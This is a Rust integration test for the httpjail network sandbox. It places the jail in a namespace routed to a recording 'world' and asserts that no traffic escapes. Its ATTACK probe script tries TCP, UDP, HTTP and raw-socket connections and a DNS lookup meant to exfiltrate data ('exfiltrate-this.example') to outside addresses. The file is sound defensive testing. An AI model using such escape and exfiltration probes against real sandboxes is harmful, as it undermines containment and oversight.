//! The attacker's view with a real outside world to escape to.
//!
//! Two namespaces created by the test stand in for the machine: "host" (where httpjail runs
//! and the jail is created) is joined by a veth pair to "world", whose routes make it the
//! destination of everything host sends out. World records every frame it receives and
//! listens on the ports an attacker would try. If the jail leaked anything into host's
//! network, host would route it to world and the recorder would see it. A positive control at
//! the end proves the recorder would have.

use std::net::{SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};
use std::time::Duration;

use crate::support::{self, NetNs, Run, Served};

const WORLD_V4: &str = "203.0.113.2";
const WORLD_V6: &str = "2001:db8:1::2";
const TCP_PORTS: [u16; 6] = [22, 25, 53, 80, 443, 8080];
const UDP_PORTS: [u16; 3] = [53, 123, 443];

/// Everything the outside world can observe.
struct Recorder {
    frames: OwnedFd,
    tcp: Vec<TcpListener>,
    udp: Vec<UdpSocket>,
}

impl Recorder {
    /// Must run in the world namespace: the sockets belong to the namespace they are made in.
    fn start() -> Self {
        let proto = i32::from((libc::ETH_P_ALL as u16).to_be());
        // SAFETY: socket(2) with constant arguments; the result is checked and owned below.
        let raw = unsafe {
            libc::socket(
                libc::AF_PACKET,
                libc::SOCK_RAW | libc::SOCK_NONBLOCK | libc::SOCK_CLOEXEC,
                proto,
            )
        };
        assert!(
            raw >= 0,
            "packet socket: {}",
            std::io::Error::last_os_error()
        );
        // SAFETY: `raw` is a fresh descriptor nothing else owns.
        let frames = unsafe { OwnedFd::from_raw_fd(raw) };
        // `[::]` without V6ONLY also takes IPv4.
        let tcp = TCP_PORTS
            .iter()
            .map(|p| {
                let l = TcpListener::bind(SocketAddr::from(([0u16; 8], *p))).expect("world tcp");
                l.set_nonblocking(true).expect("non-blocking");
                l
            })
            .collect();
        let udp = UDP_PORTS
            .iter()
            .map(|p| {
                let u = UdpSocket::bind(SocketAddr::from(([0u16; 8], *p))).expect("world udp");
                u.set_nonblocking(true).expect("non-blocking");
                u
            })
            .collect();
        Self { frames, tcp, udp }
    }

    /// Every contact so far, described. IPv6 multicast (neighbour discovery, MLD, router
    /// solicitations that interfaces send by themselves) and our own outgoing frames are not
    /// contact.
    fn contacts(&self) -> Vec<String> {
        let mut seen = Vec::new();
        let mut frame = [0u8; 2048];
        loop {
            // SAFETY: an all-zero sockaddr_ll is valid for recvfrom to overwrite.
            let mut from: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
            let mut len = libc::socklen_t::try_from(std::mem::size_of_val(&from)).expect("size");
            // SAFETY: buffers and lengths are valid for the call.
            let n = unsafe {
                libc::recvfrom(
                    self.frames.as_raw_fd(),
                    frame.as_mut_ptr().cast(),
                    frame.len(),
                    0,
                    (&raw mut from).cast(),
                    &raw mut len,
                )
            };
            let Ok(n) = usize::try_from(n) else { break };
            if from.sll_pkttype == libc::PACKET_OUTGOING || n < 14 {
                continue;
            }
            let f = &frame[..n];
            match u16::from_be_bytes([f[12], f[13]]) {
                0x0806 => seen.push("ARP".to_owned()),
                0x0800 if n >= 34 => seen.push(format!(
                    "IPv4 proto {} to {}.{}.{}.{}",
                    f[23], f[30], f[31], f[32], f[33]
                )),
                0x86dd if n >= 54 && f[38] != 0xff => {
                    seen.push(format!("IPv6 next header {}", f[20]));
                }
                0x86dd => {}
                other => seen.push(format!("ethertype {other:#06x}")),
            }
        }
        for (l, port) in self.tcp.iter().zip(TCP_PORTS) {
            while l.accept().is_ok() {
                seen.push(format!("TCP connection to port {port}"));
            }
        }
        for (u, port) in self.udp.iter().zip(UDP_PORTS) {
            while u.recv_from(&mut [0u8; 512]).is_ok() {
                seen.push(format!("UDP datagram to port {port}"));
            }
        }
        seen
    }
}

const ATTACK: &str = "
for host in ('203.0.113.2', '2001:db8:1::2'):
    for port in (22, 25, 8080):
        out('tcp %s %d' % (host, port), tcp(host, port)[0])
    for port in (80, 443):
        out('http %s %d' % (host, port), http(host, port, 'evil.test'))
    for port in (123, 443, 9999):
        out('udp %s %d' % (host, port), udp(host, port))
    out('dns udp ' + host, dns_udp(host, 'exfiltrate-this.example'))
    out('dns tcp ' + host, dns_tcp(host, 'exfiltrate-this.example'))
out('raw ipv4', sock(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
out('raw ipv6', sock(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))
out('packet', sock(socket.AF_PACKET, socket.SOCK_RAW, 3))
";

#[tokio::test(flavor = "multi_thread")]
async fn nothing_from_inside_reaches_the_outside_world() {
    if !support::prerequisites() {
        return;
    }
    let host = NetNs::new();
    let world = NetNs::new();
    host.ip(&format!(
        "link add hj-host type veth peer name hj-world netns {}",
        world.path()
    ));
    for cmd in [
        "link set lo up",
        "address add 203.0.113.1/24 dev hj-host",
        "address add 2001:db8:1::1/64 dev hj-host nodad",
        "link set hj-host up",
        "route add default via 203.0.113.2",
        "route add ::/0 via 2001:db8:1::2",
    ] {
        host.ip(cmd);
    }
    for cmd in [
        "link set lo up",
        "address add 203.0.113.2/24 dev hj-world",
        "address add 2001:db8:1::2/64 dev hj-world nodad",
        "link set hj-world up",
    ] {
        world.ip(cmd);
    }
    let recorder = world.run(Recorder::start);
    let runtime = tokio::runtime::Handle::current();
    let served = host.run(|| {
        let _runtime = runtime.enter();
        Served::create(Run::probe(ATTACK))
    });
    let done = served.finish().await;
    done.success();

    for h in [WORLD_V4, WORLD_V6] {
        for port in [22, 25, 8080] {
            assert_eq!(
                done.value(&format!("tcp {h} {port}")),
                "ECONNREFUSED",
                "{h}:{port}"
            );
        }
        for port in [123, 443, 9999] {
            let r = done.value(&format!("udp {h} {port}"));
            assert!(
                ["EPERM", "ECONNREFUSED", "EHOSTUNREACH"].contains(&r),
                "udp {h}:{port}: {r}"
            );
        }
        let shown = if h.contains(':') {
            format!("[{h}]")
        } else {
            h.to_owned()
        };
        for (port, listener) in [(80, "http"), (443, "https")] {
            assert_eq!(
                done.value(&format!("http {h} {port}")),
                format!("jail=jail listener={listener} orig={shown}:{port} host=evil.test"),
            );
        }
        for proto in ["udp", "tcp"] {
            assert_eq!(
                done.value(&format!("dns {proto} {h}")),
                "id=4242 rcode=0 answers=1 addr=6.6.6.6",
                "the jail's resolver answered, not the world's"
            );
        }
    }
    for s in ["raw ipv4", "raw ipv6", "packet"] {
        assert_eq!(done.value(s), "EPERM", "{s}");
    }
    assert_eq!(
        recorder.contacts(),
        Vec::<String>::new(),
        "the world was contacted"
    );

    // Positive control: the same attempt from outside the jail is seen.
    host.run(|| {
        TcpStream::connect_timeout(
            &format!("{WORLD_V4}:22").parse().unwrap(),
            Duration::from_secs(5),
        )
        .expect("the host namespace reaches the world")
    });
    support::eventually("the recorder to see the control connection", || {
        recorder
            .contacts()
            .iter()
            .any(|c| c == "TCP connection to port 22")
    });
}
